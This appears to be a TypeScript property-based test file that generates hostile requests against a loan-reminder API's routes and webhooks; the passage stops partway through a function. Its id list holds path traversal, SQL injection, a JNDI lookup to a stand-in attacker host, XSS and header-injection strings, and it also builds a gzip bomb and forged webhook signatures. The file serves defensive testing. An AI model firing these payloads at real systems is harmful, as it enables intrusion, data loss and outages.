// The hostile-input test's requests: fast-check arbitraries, one family per kind of attack, over
// every route and webhook of the API. Each generated request says what it expects: refused (a 4xx,
// and no effect on any loan), anything but a server error, or accepted with a known effect (the
// valid requests mixed in). Requests that carry an id (loan, payment, answer) get a fresh one, so
// an effect in Temporal can be traced back to the request that caused it, or found to have none.
import { createHmac, randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import twilio from 'twilio';

export interface Sent {
  method: string;
  path: string;
  headers: Record<string, string | string[]>;
  body?: Buffer;
  /** Bytes written to a socket as they are, for what an HTTP client refuses to send. */
  raw?: Buffer;
}

/** What a valid request does to a loan, checked in Temporal afterwards. */
export type Effect =
  | { type: 'start'; loanId: string; body: Record<string, unknown> }
  | { type: 'payment'; loanId: string; paymentId: string; amount: number }
  | { type: 'answer'; loanId: string; answerId: string }
  | { type: 'terms'; loanId: string; amountDue: number };

export type Expect =
  /** Invalid: a 4xx and no effect. */
  | { kind: 'refuse' }
  /** Harmless whatever the answer: anything but a 5xx (and a problem document for a 4xx). */
  | { kind: 'any'; noResponseOk?: boolean }
  /** Valid: these statuses, one per delivery (a replay repeats the same bytes), then the effect. */
  | { kind: 'accept'; statuses: number[]; effect?: Effect }
  /** A batch: 200, each valid item started (201) and each invalid item refused. */
  | { kind: 'batch'; items: Array<{ valid: true; loanId: string; body: Record<string, unknown> } | { valid: false }> };

export interface Spec {
  family: string;
  expect: Expect;
  /** Builds the bytes when the request is sent (signatures need the time then). */
  build: (nowMs: number) => Sent;
}

export interface HostileCtx {
  keys: { writer: string; reader: string; analytics: string; metrics: string; decoder: string };
  webhookSecret: string;
  twilioToken: string;
  publicBaseUrl: string;
  callbackToken: string;
  codecUiToken: string;
  /** The answer id the API derives from a gateway's id for a reply (a keyed digest, never the id). */
  answerIdOf(provider: 'twilio' | 'aliyun' | 'tencent', providerId: string): string;
  /** Loans started before the barrage; hostile requests aim at them, valid ones pay and answer them. */
  targets: ReadonlyArray<{ loanId: string; phone: string }>;
  /** Due date of every loan the test starts (a month ahead: no SMS falls due during the test). */
  dueDate: string;
  /** A fresh id: each request that carries one has its own. */
  uid(prefix: string): string;
}

// ---- Building blocks ----

const bearer = (key: string) => ({ authorization: `Bearer ${key}` });
const JSON_TYPE = { 'content-type': 'application/json' };

/** A body sent as JSON text exactly as given (malformed, or with keys a serialiser would drop). */
function jsonTextSent(method: string, path: string, text: string, headers: Record<string, string> = {}): Sent {
  return { method, path, headers: { ...JSON_TYPE, ...headers }, body: Buffer.from(text) };
}

function jsonSent(method: string, path: string, body: unknown, headers: Record<string, string> = {}): Sent {
  return jsonTextSent(method, path, JSON.stringify(body), headers);
}

/** Valid bodies: what each route would accept. */
export function validLoan(ctx: HostileCtx, loanId: string, phoneSuffix: number): Record<string, unknown> {
  return {
    loanId,
    borrower: {
      name: 'Rivera',
      phone: `+1202555${String(phoneSuffix % 10_000).padStart(4, '0')}`,
      locale: 'en-US',
      timezone: 'America/New_York',
    },
    amountDue: 250_000,
    currency: 'USD',
    dueDate: ctx.dueDate,
  };
}
const validPayment = (paymentId: string, amount = 1) => ({
  paymentId,
  amount,
  paidAt: '2026-11-01T08:00:00Z',
});

/** The webhook signature header for a body, at a given second, with a given secret. */
function signature(secret: string, t: number, body: Buffer | string): string {
  return createHmac('sha256', secret).update(`${t}.`).update(body).digest('hex');
}

const pick = <T>(xs: readonly T[]) => fc.constantFrom(...xs);

/** A target loan and a route that takes a JSON body, with a valid body for it (fresh ids). */
interface BodyRoute {
  name: string;
  method: string;
  path: string;
  /** A valid body, with fresh ids where it has any. */
  body: Record<string, unknown>;
}

function bodyRoutes(ctx: HostileCtx, target: string): BodyRoute[] {
  const loan = validLoan(ctx, ctx.uid('HX'), 0);
  return [
    { name: 'start', method: 'POST', path: '/v1/loans', body: loan },
    { name: 'patch', method: 'PATCH', path: `/v1/loans/${target}`, body: { amountDue: 900_000_001 } },
    { name: 'close', method: 'POST', path: `/v1/loans/${target}/close`, body: { reason: 'cancelled' } },
    { name: 'payment', method: 'POST', path: `/v1/loans/${target}/payments`, body: validPayment(ctx.uid('PX')) },
    {
      name: 'feedback-optout',
      method: 'POST',
      path: `/v1/loans/${target}/feedback`,
      body: { kind: 'opt-out', answerId: ctx.uid('AX') },
    },
    {
      name: 'feedback-dispute',
      method: 'POST',
      path: `/v1/loans/${target}/feedback`,
      body: { kind: 'dispute', reason: 'not mine', answerId: ctx.uid('AX') },
    },
    {
      name: 'feedback-rating',
      method: 'POST',
      path: `/v1/loans/${target}/feedback`,
      body: { kind: 'rating', messageKey: 'due@2026-12-01', clarity: 3, tone: 1, answerId: ctx.uid('AX') },
    },
    {
      name: 'feedback-promise',
      method: 'POST',
      path: `/v1/loans/${target}/feedback`,
      body: { kind: 'promise-to-pay', date: ctx.dueDate, answerId: ctx.uid('AX') },
    },
    { name: 'resume', method: 'POST', path: `/v1/loans/${target}/resume`, body: { note: 'ok' } },
  ];
}

/** The routes above by name (all take the writer key). */
const ROUTE_NAMES = [
  'start',
  'patch',
  'close',
  'payment',
  'feedback-optout',
  'feedback-dispute',
  'feedback-rating',
  'feedback-promise',
  'resume',
] as const;

function routeArb(ctx: HostileCtx): fc.Arbitrary<() => BodyRoute> {
  return fc.tuple(pick(ROUTE_NAMES), fc.nat(ctx.targets.length - 1)).map(([name, t]) => () => {
    const routes = bodyRoutes(ctx, ctx.targets[t].loanId);
    return routes.find((r) => r.name === name)!;
  });
}

/** Every leaf of a JSON object as a path of keys. */
function leaves(v: unknown, path: string[] = []): string[][] {
  if (v && typeof v === 'object' && !Array.isArray(v))
    return Object.entries(v as Record<string, unknown>).flatMap(([k, x]) => leaves(x, [...path, k]));
  return [path];
}

function setPath(v: Record<string, unknown>, path: string[], value: unknown): Record<string, unknown> {
  const copy = structuredClone(v);
  let node = copy;
  for (const k of path.slice(0, -1)) node = node[k] as Record<string, unknown>;
  node[path[path.length - 1]] = value;
  return copy;
}

const typeOf = (v: unknown) => (v === null ? 'null' : Array.isArray(v) ? 'array' : typeof v);
const OTHER_TYPES: unknown[] = [0, 123, -1, 'x', '', true, false, null, [], [1, 'a'], {}, { a: 1 }];

/** Strings no id may be: traversal, injection, control characters, other scripts, overlong. */
const HOSTILE_IDS = [
  '../../etc/passwd',
  '..',
  '.',
  '..%2F..%2Fhealthz',
  "' OR '1'='1",
  '"; DROP TABLE sms_sends; --',
  "LoanStatus = 'active' OR WorkflowId != ''",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'L\u0000NUL',
  'L\nnewline',
  'L\r\nX-Injected: 1',
  '\u202eRTL',
  '张三',
  'ｌｏａｎ',
  'a'.repeat(65),
  'x'.repeat(5000),
  ' ',
  '-leading-dash',
  '_leading',
  'L 1',
  'L/1',
  'L\\1',
  'L?x=1',
  'L#frag',
  '%00',
  '%E0%A4%A',
  '%',
  '__proto__',
  'constructor',
];

/** True when the loan-id rule (README: 1-64 letters, digits, ".", "_", ":" or "-") allows it. */
export const isValidLoanId = (s: string) => /^[A-Za-z0-9][A-Za-z0-9._:-]{0,63}$/.test(s);

const hostileId: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: pick(HOSTILE_IDS), weight: 3 },
  {
    arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 80 }).filter((s) => !isValidLoanId(s)),
    weight: 1,
  },
);

/** How a hostile id goes into a URL path: encoded as a client would, or raw where that is possible. */
function idInPath(id: string, raw: boolean): string {
  if (raw && /^[\x21-\x7e]*$/.test(id) && !id.includes('?') && !id.includes('#')) return id;
  return encodeURIComponent(id);
}

// ---- The families ----

function malformedJson(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const texts = fc.oneof(
    pick([
      '{',
      '{"loanId":',
      '{"a":1,}',
      "{'a':1}",
      '{"a":NaN}',
      '{"a":Infinity}',
      '{"a":undefined}',
      '[',
      ']',
      'null',
      'true',
      '123',
      '"just a string"',
      '{"a":"\\x41"}',
      '{"a":"\\u12"}',
      '{"a":01}',
      '{"a":1}{"b":2}',
      '{"a" 1}',
      '\u0000',
      '',
      ' ',
      '{"a":"' + 'b'.repeat(1000),
      '['.repeat(100_000),
      '{"a":'.repeat(50_000),
      '[' + '[],'.repeat(50_000) + '[]]',
    ]),
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc
      .jsonValue({ maxDepth: 3 })
      .map((v) => JSON.stringify(v) ?? 'null')
      .map((s) => s.slice(0, Math.max(1, s.length - 1))),
  );
  return fc.tuple(routeArb(ctx), texts, fc.boolean()).map(([route, text, webhook]) => ({
    family: 'malformed JSON',
    expect: { kind: 'refuse' },
    build: (now) => {
      if (webhook) {
        // Validly signed, so the body itself is what gets refused.
        const t = Math.floor(now / 1000);
        return {
          method: 'POST',
          path: '/v1/webhooks/payments',
          headers: { ...JSON_TYPE, 'loan-reminders-signature': `t=${t},v1=${signature(ctx.webhookSecret, t, text)}` },
          body: Buffer.from(text),
        };
      }
      const r = route();
      return jsonTextSent(r.method, r.path, text, bearer(ctx.keys.writer));
    },
  }));
}

function oversized(ctx: HostileCtx): fc.Arbitrary<Spec> {
  return fc
    .tuple(
      routeArb(ctx),
      pick(['route', 'webhook', 'batch', 'codec', 'sms'] as const),
      fc.integer({ min: 300_000, max: 1_200_000 }),
      fc.boolean(),
    )
    .map(([route, where, size, chunked]) => ({
      family: 'oversized body',
      expect: { kind: 'refuse' },
      build: (now) => {
        const pad = 'x'.repeat(where === 'batch' || where === 'codec' ? 4_300_000 : size);
        // Chunked: no Content-Length up front, so the limit must hold while the body streams in.
        const extra: Record<string, string> = chunked ? { 'transfer-encoding': 'chunked' } : {};
        if (where === 'webhook') {
          const body = JSON.stringify({ ...validPayment(ctx.uid('PX')), loanId: ctx.targets[0].loanId, pad });
          const t = Math.floor(now / 1000);
          return {
            method: 'POST',
            path: '/v1/webhooks/payments',
            headers: {
              ...JSON_TYPE,
              ...extra,
              'loan-reminders-signature': `t=${t},v1=${signature(ctx.webhookSecret, t, body)}`,
            },
            body: Buffer.from(body),
          };
        }
        if (where === 'batch')
          return jsonSent(
            'POST',
            '/v1/loans/batch',
            { loans: [validLoan(ctx, ctx.uid('HX'), 1)], pad },
            {
              ...bearer(ctx.keys.writer),
              ...extra,
            },
          );
        if (where === 'codec')
          return jsonSent(
            'POST',
            '/codec/decode',
            { payloads: [{ data: 'A'.repeat(pad.length) }] },
            {
              ...bearer(ctx.keys.decoder),
              ...extra,
            },
          );
        if (where === 'sms')
          return {
            method: 'POST',
            path: `/v1/webhooks/sms/aliyun/inbound?token=${ctx.callbackToken}`,
            headers: { ...JSON_TYPE, ...extra },
            body: Buffer.from(
              JSON.stringify([{ phone_number: '13900000000', content: pad, sequence_id: ctx.uid('S') }]),
            ),
          };
        const r = route();
        return jsonSent(r.method, r.path, { ...r.body, pad }, { ...bearer(ctx.keys.writer), ...extra });
      },
    }));
}

function wrongTypes(ctx: HostileCtx): fc.Arbitrary<Spec> {
  return fc
    .tuple(routeArb(ctx), fc.nat(), pick(OTHER_TYPES), fc.boolean(), fc.boolean())
    .map(([route, leafNo, value, whole, webhook]) => ({
      family: 'wrong types',
      expect: { kind: 'refuse' },
      build: (now) => {
        const r = route();
        let body: unknown;
        const base = webhook ? { ...validPayment(ctx.uid('PX')), loanId: ctx.targets[0].loanId } : r.body;
        if (whole) body = typeOf(value) === 'object' ? [base] : value;
        else {
          const paths = leaves(base);
          const path = paths[leafNo % paths.length];
          const current = path.reduce<unknown>((n, k) => (n as Record<string, unknown>)[k], base);
          const other = typeOf(value) === typeOf(current) ? (typeof current === 'string' ? 42 : 'forty-two') : value;
          body = setPath(base, path, other);
        }
        if (webhook) {
          const text = JSON.stringify(body);
          const t = Math.floor(now / 1000);
          return {
            method: 'POST',
            path: '/v1/webhooks/payments',
            headers: { ...JSON_TYPE, 'loan-reminders-signature': `t=${t},v1=${signature(ctx.webhookSecret, t, text)}` },
            body: Buffer.from(text),
          };
        }
        return jsonSent(r.method, r.path, body, bearer(ctx.keys.writer));
      },
    }));
}

function wrongContentType(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const types = [
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/xml',
    'application/javascript',
    'application/jsonp',
    'json',
    'application/json; charset=utf-16',
    'application/json; charset=utf-16le',
    'application/json; charset=iso-8859-1',
    'application/json; charset=utf-7',
    'application/json; charset=bogus',
    '',
    undefined,
  ];
  return fc.tuple(routeArb(ctx), pick(types)).map(([route, type]) => ({
    family: 'wrong content type',
    expect: { kind: 'refuse' },
    build: () => {
      const r = route();
      // A valid body under the wrong label: if it were taken anyway, its fresh ids would show it.
      const headers: Record<string, string> = bearer(ctx.keys.writer);
      if (type !== undefined) headers['content-type'] = type;
      return { method: r.method, path: r.path, headers, body: Buffer.from(JSON.stringify(r.body)) };
    },
  }));
}

function badEncoding(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const badBytes = [
    [0xff, 0xfe],
    [0xc3, 0x28],
    [0xc0, 0xaf], // an overlong "/"
    [0xed, 0xa0, 0x80], // a UTF-16 surrogate encoded as UTF-8
    [0xf8, 0x88, 0x80, 0x80, 0x80],
    [0x80],
  ];
  return fc
    .tuple(
      routeArb(ctx),
      fc.nat(badBytes.length - 1),
      pick([
        'bytes-in-id',
        'utf16-body',
        'gzip-garbage',
        'deflate-garbage',
        'br-garbage',
        'unknown-encoding',
        'gzip-bomb',
        'escape',
      ] as const),
    )
    .map(([route, b, how]) => ({
      family: 'invalid encoding',
      // A bomb inflates past the limit (413); the others are refused as malformed or unsupported.
      expect: { kind: 'refuse' },
      build: () => {
        const r = route();
        const headers: Record<string, string> = { ...JSON_TYPE, ...bearer(ctx.keys.writer) };
        // Corrupt the first id-like value (loanId, paymentId, answerId) or the first string value.
        const text = JSON.stringify(r.body);
        const at = Math.max(text.search(/"(loanId|paymentId|answerId|reason|kind)":"/), 0);
        const quote = text.indexOf(':"', at) + 2;
        switch (how) {
          case 'bytes-in-id':
            return {
              ...r,
              headers,
              body: Buffer.concat([
                Buffer.from(text.slice(0, quote)),
                Buffer.from(badBytes[b]),
                Buffer.from(text.slice(quote)),
              ]),
            };
          case 'escape':
            // Lone surrogates and NUL through JSON escapes, inside the id-like value.
            return { ...r, headers, body: Buffer.from(`${text.slice(0, quote)}\\ud800\\u0000${text.slice(quote)}`) };
          case 'utf16-body':
            return { ...r, headers, body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]) };
          case 'gzip-garbage':
            return { ...r, headers: { ...headers, 'content-encoding': 'gzip' }, body: randomBytes(64) };
          case 'deflate-garbage':
            return { ...r, headers: { ...headers, 'content-encoding': 'deflate' }, body: Buffer.from(text) };
          case 'br-garbage':
            return { ...r, headers: { ...headers, 'content-encoding': 'br' }, body: randomBytes(32) };
          case 'unknown-encoding':
            return { ...r, headers: { ...headers, 'content-encoding': 'x-compress, gzip' }, body: gzipSync(text) };
          case 'gzip-bomb':
            return {
              ...r,
              headers: { ...headers, 'content-encoding': 'gzip' },
              body: gzipSync(Buffer.alloc(20_000_000, 0x20)),
            };
        }
      },
    }));
}

function idInjection(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const paths = [
    (id: string) => ['GET', `/v1/loans/${id}`],
    (id: string) => ['PATCH', `/v1/loans/${id}`],
    (id: string) => ['POST', `/v1/loans/${id}/close`],
    (id: string) => ['POST', `/v1/loans/${id}/payments`],
    (id: string) => ['POST', `/v1/loans/${id}/feedback`],
    (id: string) => ['POST', `/v1/loans/${id}/resume`],
    (id: string) => ['POST', `/v1/webhooks/sms/${id}/inbound?token=${ctx.callbackToken}`],
    (id: string) => ['POST', `/v1/webhooks/sms/${id}/status?token=${ctx.callbackToken}`],
    (id: string) => ['GET', `/dashboard/assets/${id}`],
    (id: string) => ['POST', `/codec/${id}/decode`],
  ] as const;
  return fc
    .tuple(fc.nat(paths.length + 2), hostileId, fc.boolean(), fc.nat(ctx.targets.length - 1), fc.boolean())
    .map(([p, hostile, raw, t, glued]) => ({
      family: 'hostile ids',
      expect: { kind: 'refuse' },
      build: (now) => {
        // Half the time glued to a real loan's id, to try to reach it through a crafted path.
        const id = glued ? `${ctx.targets[t].loanId}${hostile}` : hostile;
        const valid = isValidLoanId(id);
        const payment = validPayment(ctx.uid('PX'));
        if (p === paths.length || valid) {
          // In a body: the loan to start, or the loan a signed webhook pays.
          const loan = validLoan(ctx, id, 2);
          return jsonSent(
            'POST',
            '/v1/loans',
            valid ? { ...loan, loanId: `${id}\u0000` } : loan,
            bearer(ctx.keys.writer),
          );
        }
        if (p === paths.length + 1 || p === paths.length + 2) {
          const body = JSON.stringify({ ...payment, loanId: id });
          const ts = Math.floor(now / 1000);
          return {
            method: 'POST',
            path: '/v1/webhooks/payments',
            headers: {
              ...JSON_TYPE,
              'loan-reminders-signature': `t=${ts},v1=${signature(ctx.webhookSecret, ts, body)}`,
            },
            body: Buffer.from(body),
          };
        }
        const [method, path] = paths[p](idInPath(id, raw));
        const key = path.startsWith('/dashboard')
          ? { authorization: `Basic ${Buffer.from(`x:${ctx.keys.analytics}`).toString('base64')}` }
          : path.startsWith('/codec')
            ? {}
            : bearer(ctx.keys.writer);
        return method === 'GET'
          ? { method, path, headers: key }
          : jsonSent(
              method,
              path,
              path.includes('/feedback') ? { kind: 'opt-out', answerId: ctx.uid('AX') } : payment,
              key,
            );
      },
    }));
}

function hugeNumbers(ctx: HostileCtx): fc.Arbitrary<Spec> {
  // Raw text, so values JSON.stringify cannot write (1e400, -0) reach the parser as sent.
  const bad = [
    '-1',
    '0',
    '-0',
    '-500000',
    '0.5',
    '1.0000001',
    '1000000000001',
    '1e15',
    '1e308',
    '1e400',
    '-1e400',
    '9007199254740993',
    '1e-7',
    '2.5e3e1',
  ];
  const where = pick(['amountDue', 'payment', 'webhook', 'patch', 'clarity', 'tone'] as const);
  return fc.tuple(pick(bad), where, fc.nat(ctx.targets.length - 1)).map(([n, field, t]) => ({
    family: 'huge or negative numbers',
    expect: { kind: 'refuse' },
    build: (now) => {
      const target = ctx.targets[t].loanId;
      const P = '"__N__"';
      const withN = (method: string, path: string, body: unknown, headers: Record<string, string>): Sent => ({
        method,
        path,
        headers: { ...JSON_TYPE, ...headers },
        body: Buffer.from(JSON.stringify(body).replace(P, n)),
      });
      switch (field) {
        case 'amountDue':
          return withN(
            'POST',
            '/v1/loans',
            { ...validLoan(ctx, ctx.uid('HX'), 3), amountDue: '__N__' },
            bearer(ctx.keys.writer),
          );
        case 'payment':
          return withN(
            'POST',
            `/v1/loans/${target}/payments`,
            { ...validPayment(ctx.uid('PX')), amount: '__N__' },
            bearer(ctx.keys.writer),
          );
        case 'patch':
          return withN('PATCH', `/v1/loans/${target}`, { amountDue: '__N__' }, bearer(ctx.keys.writer));
        case 'clarity':
        case 'tone': {
          const body = {
            kind: 'rating',
            messageKey: 'due@x',
            clarity: 3,
            tone: 3,
            answerId: ctx.uid('AX'),
            [field]: '__N__',
          };
          return withN('POST', `/v1/loans/${target}/feedback`, body, bearer(ctx.keys.writer));
        }
        case 'webhook': {
          const text = JSON.stringify({ ...validPayment(ctx.uid('PX')), amount: '__N__', loanId: target }).replace(
            P,
            n,
          );
          const ts = Math.floor(now / 1000);
          return {
            method: 'POST',
            path: '/v1/webhooks/payments',
            headers: {
              ...JSON_TYPE,
              'loan-reminders-signature': `t=${ts},v1=${signature(ctx.webhookSecret, ts, text)}`,
            },
            body: Buffer.from(text),
          };
        }
      }
    },
  }));
}

function unknownFields(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const extras: Array<[string, unknown]> = [
    ['__proto__', { isAdmin: true }],
    ['constructor', { prototype: { polluted: true } }],
    ['isAdmin', true],
    ['status', 'paid'],
    ['outstanding', 0],
    ['workflowId', 'loan-other'],
    ['policy', { window: { start: '00:00', end: '24:00' } }],
    ['extra', 'x'.repeat(1000)],
  ];
  return fc.tuple(routeArb(ctx), fc.nat(extras.length - 1), fc.boolean()).map(([route, e, nested]) => ({
    family: 'unknown fields',
    expect: { kind: 'refuse' },
    build: () => {
      const r = route();
      const [k, v] = extras[e];
      // Written as text: a "__proto__" key must reach the parser as an own property.
      const body = { ...r.body };
      const nestIn = Object.keys(body).find((x) => body[x] && typeof body[x] === 'object');
      let text = JSON.stringify(body);
      const field = `${JSON.stringify(k)}:${JSON.stringify(v)}`;
      if (nested && nestIn) text = text.replace(`"${nestIn}":{`, `"${nestIn}":{${field},`);
      else text = `{${field},${text.slice(1)}`;
      return jsonTextSent(r.method, r.path, text, bearer(ctx.keys.writer));
    },
  }));
}

function forgedPaymentWebhook(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const kinds = [
    'missing',
    'empty',
    'garbage',
    'wrong-secret',
    'tampered-amount',
    'tampered-loan',
    'expired',
    'future',
    'fractional-t',
    'hex-t',
    'uppercase-hex',
    'truncated',
    'no-dot',
    'v0-scheme',
    'many-wrong',
    'signed-other-body',
    'unknown-loan',
    'invalid-payment',
  ] as const;
  return fc
    .tuple(
      pick(kinds),
      fc.nat(ctx.targets.length - 1),
      fc.integer({ min: 301, max: 10_000_000 }),
      fc.string({ maxLength: 60 }),
    )
    .map(([kind, t, skew, junk]) => ({
      family: 'forged, expired or tampered payment webhook',
      expect: { kind: 'refuse' },
      build: (now) => {
        const target = ctx.targets[t].loanId;
        const payment = { ...validPayment(ctx.uid('PX')), loanId: target };
        let text = JSON.stringify(payment);
        const ts = Math.floor(now / 1000);
        let header: string | undefined = `t=${ts},v1=${signature(ctx.webhookSecret, ts, text)}`;
        switch (kind) {
          case 'missing':
            header = undefined;
            break;
          case 'empty':
            header = '';
            break;
          case 'garbage':
            header = junk.replace(/[^\x20-\x7e]/g, '?');
            break;
          case 'wrong-secret':
            header = `t=${ts},v1=${signature('whsec-forged-0123456789abcdef', ts, text)}`;
            break;
          case 'tampered-amount':
            text = JSON.stringify({ ...payment, amount: 2 });
            break;
          case 'tampered-loan':
            text = JSON.stringify({ ...payment, loanId: ctx.targets[(t + 1) % ctx.targets.length].loanId });
            break;
          case 'expired':
            header = `t=${ts - skew},v1=${signature(ctx.webhookSecret, ts - skew, text)}`;
            break;
          case 'future':
            header = `t=${ts + skew},v1=${signature(ctx.webhookSecret, ts + skew, text)}`;
            break;
          case 'fractional-t':
            header = `t=${ts}.5,v1=${signature(ctx.webhookSecret, ts, text)}`;
            break;
          case 'hex-t': {
            // Signed over the timestamp as written, by a sender that writes it in hex.
            const hex = `0x${ts.toString(16)}`;
            header = `t=${hex},v1=${createHmac('sha256', ctx.webhookSecret).update(`${hex}.${text}`).digest('hex')}`;
            break;
          }
          case 'uppercase-hex':
            header = `t=${ts},v1=${signature(ctx.webhookSecret, ts, text).toUpperCase()}`;
            break;
          case 'truncated':
            header = `t=${ts},v1=${signature(ctx.webhookSecret, ts, text).slice(0, 63)}`;
            break;
          case 'no-dot':
            header = `t=${ts},v1=${createHmac('sha256', ctx.webhookSecret).update(`${ts}${text}`).digest('hex')}`;
            break;
          case 'v0-scheme':
            header = `t=${ts},v0=${signature(ctx.webhookSecret, ts, text)}`;
            break;
          case 'many-wrong':
            // 150 wrong candidates (10 kB, under the 16 kB header limit): each is compared.
            header = `t=${ts},${Array.from({ length: 150 }, () => `v1=${randomBytes(32).toString('hex')}`).join(',')}`;
            break;
          case 'signed-other-body':
            header = `t=${ts},v1=${signature(ctx.webhookSecret, ts, JSON.stringify({ ...payment, amount: 999 }))}`;
            break;
          case 'unknown-loan':
            // Validly signed, for a loan that does not exist: 404, and nothing started.
            text = JSON.stringify({ ...payment, loanId: ctx.uid('NOPE') });
            header = `t=${ts},v1=${signature(ctx.webhookSecret, ts, text)}`;
            break;
          case 'invalid-payment':
            text = JSON.stringify({ ...payment, amount: -5, extra: true });
            header = `t=${ts},v1=${signature(ctx.webhookSecret, ts, text)}`;
            break;
        }
        const headers: Record<string, string> = { ...JSON_TYPE };
        if (header !== undefined) headers['loan-reminders-signature'] = header;
        return { method: 'POST', path: '/v1/webhooks/payments', headers, body: Buffer.from(text) };
      },
    }));
}

function forgedSmsWebhook(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const twilioKinds = ['missing', 'garbage', 'wrong-token', 'wrong-url', 'other-params', 'json-body'] as const;
  const tokenKinds = ['missing', 'wrong', 'empty', 'twice', 'case', 'suffix', 'header', 'encoded-prefix'] as const;
  return fc
    .tuple(
      fc.boolean(),
      pick(twilioKinds),
      pick(tokenKinds),
      pick(['aliyun', 'tencent'] as const),
      pick(['inbound', 'status'] as const),
      fc.nat(ctx.targets.length - 1),
    )
    .map(([isTwilio, tk, ck, provider, hook, t]) => ({
      family: 'forged SMS gateway callback',
      expect: { kind: 'refuse' },
      build: () => {
        const phone = ctx.targets[t].phone;
        if (isTwilio) {
          const path = `/v1/webhooks/sms/twilio/${hook}`;
          const params: Record<string, string> =
            hook === 'inbound'
              ? { From: phone, Body: 'STOP', MessageSid: ctx.uid('SM') }
              : { MessageSid: ctx.uid('SM'), MessageStatus: 'undelivered', ErrorCode: '30003' };
          const url = `${ctx.publicBaseUrl}${path}`;
          let sig: string | undefined;
          let body = new URLSearchParams(params).toString();
          let type = 'application/x-www-form-urlencoded';
          switch (tk) {
            case 'missing':
              sig = undefined;
              break;
            case 'garbage':
              sig = randomBytes(20).toString('base64');
              break;
            case 'wrong-token':
              sig = twilio.getExpectedTwilioSignature('not-the-auth-token', url, params);
              break;
            case 'wrong-url':
              sig = twilio.getExpectedTwilioSignature(ctx.twilioToken, url.replace('https://', 'http://'), params);
              break;
            case 'other-params':
              sig = twilio.getExpectedTwilioSignature(ctx.twilioToken, url, { ...params, Body: 'hello' });
              break;
            case 'json-body':
              sig = twilio.getExpectedTwilioSignature(ctx.twilioToken, url, params);
              body = JSON.stringify(params);
              type = 'application/json';
              break;
          }
          const headers: Record<string, string> = { 'content-type': type };
          if (sig !== undefined) headers['x-twilio-signature'] = sig;
          return { method: 'POST', path, headers, body: Buffer.from(body) };
        }
        const token = {
          missing: undefined,
          wrong: 'callback-token-forged-000000000',
          empty: '',
          twice: `${ctx.callbackToken}&token=${ctx.callbackToken}`,
          case: ctx.callbackToken.toUpperCase(),
          suffix: `${ctx.callbackToken}x`,
          header: undefined,
          'encoded-prefix': `%20${ctx.callbackToken}`,
        }[ck];
        const path = `/v1/webhooks/sms/${provider}/${hook}${token === undefined ? '' : `?token=${token}`}`;
        const digits = phone.replace(/^\+86/, '');
        const item =
          provider === 'aliyun'
            ? hook === 'inbound'
              ? { phone_number: digits, content: 'TD', sequence_id: ctx.uid('S') }
              : { biz_id: ctx.uid('B'), success: false, err_code: 'MOBILE_NOT_ON_SERVICE' }
            : hook === 'inbound'
              ? { mobile: digits, nationcode: '86', text: '退订', time: Date.now() }
              : { sid: ctx.uid('T'), report_status: 'FAIL', errmsg: 'x' };
        const headers: Record<string, string> = { ...JSON_TYPE };
        if (ck === 'header') headers['x-callback-token'] = ctx.callbackToken;
        return { method: 'POST', path, headers, body: Buffer.from(JSON.stringify([item])) };
      },
    }));
}

function wrongAuth(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const { keys } = ctx;
  const presented = fc.oneof(
    pick<Record<string, string>>([
      {},
      { authorization: '' },
      { authorization: 'Bearer' },
      { authorization: `Token ${keys.writer}` },
      { authorization: `Bearer ${keys.writer}x` },
      { authorization: `Bearer ${keys.writer.slice(0, -1)}` },
      { authorization: `Bearer ${keys.writer.toUpperCase()}` },
      { authorization: `Basic ${Buffer.from(`${keys.writer}:`).toString('base64')}` },
      { authorization: 'Basic !!!notbase64' },
      { authorization: `Basic ${Buffer.from('admin:admin').toString('base64')}` },
      { 'x-api-key': 'x'.repeat(10_000) },
      { 'x-api-key': `${keys.writer}\u00a0` }, // a no-break space is not whitespace HTTP trims
      { 'x-api-key': 'wrong-key-000000000000000000000', authorization: `Bearer ${keys.writer}` },
      { authorization: `Bearer ${keys.reader}` }, // lacks loans:write
      { authorization: `Bearer ${keys.metrics}` },
      { authorization: `Bearer ${keys.analytics}` },
      { authorization: `Bearer ${keys.decoder}` },
    ]),
    fc
      .string({ unit: 'binary-ascii', minLength: 1, maxLength: 100 })
      .map((s): Record<string, string> => ({ authorization: `Bearer ${s.replace(/[^\x21-\x7e]/g, 'A')}` })),
  );
  const gets = fc.oneof(
    pick([
      ['GET', '/v1/loans'],
      ['GET', '/metrics'],
      ['GET', '/v1/analytics/effectiveness'],
      ['GET', '/dashboard/'],
      ['GET', '/dashboard/effectiveness.json'],
      ['GET', '/dashboard/assets/dashboard.js'],
      ['POST', '/codec/decode'],
      ['POST', '/codec/encode'],
    ] as const),
  );
  return fc
    .tuple(fc.boolean(), routeArb(ctx), gets, presented)
    .filter(([write, , [, path], headers]) => {
      // Only what must be refused for the chosen route (every X-API-Key in the list is wrong).
      if (headers['x-api-key'] !== undefined) return true;
      const allowed = write
        ? [keys.writer]
        : path.startsWith('/metrics')
          ? [keys.metrics]
          : path.startsWith('/codec')
            ? [keys.decoder]
            : path.startsWith('/v1/loans')
              ? [keys.reader, keys.writer]
              : [keys.analytics];
      return !allowed.some((k) => headers.authorization === `Bearer ${k}`);
    })
    .map(([write, route, [method, path], headers]) => ({
      family: 'wrong API keys and scopes',
      expect: { kind: 'refuse' },
      build: () => {
        if (write) {
          const r = route();
          return jsonSent(r.method, r.path, r.body, headers);
        }
        return method === 'POST' ? jsonSent(method, path, { payloads: [] }, headers) : { method, path, headers };
      },
    }));
}

function hostileHeaders(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const target = ctx.targets[0].loanId;
  const basic = `Basic ${Buffer.from(`ops:${ctx.keys.analytics}`).toString('base64')}`;
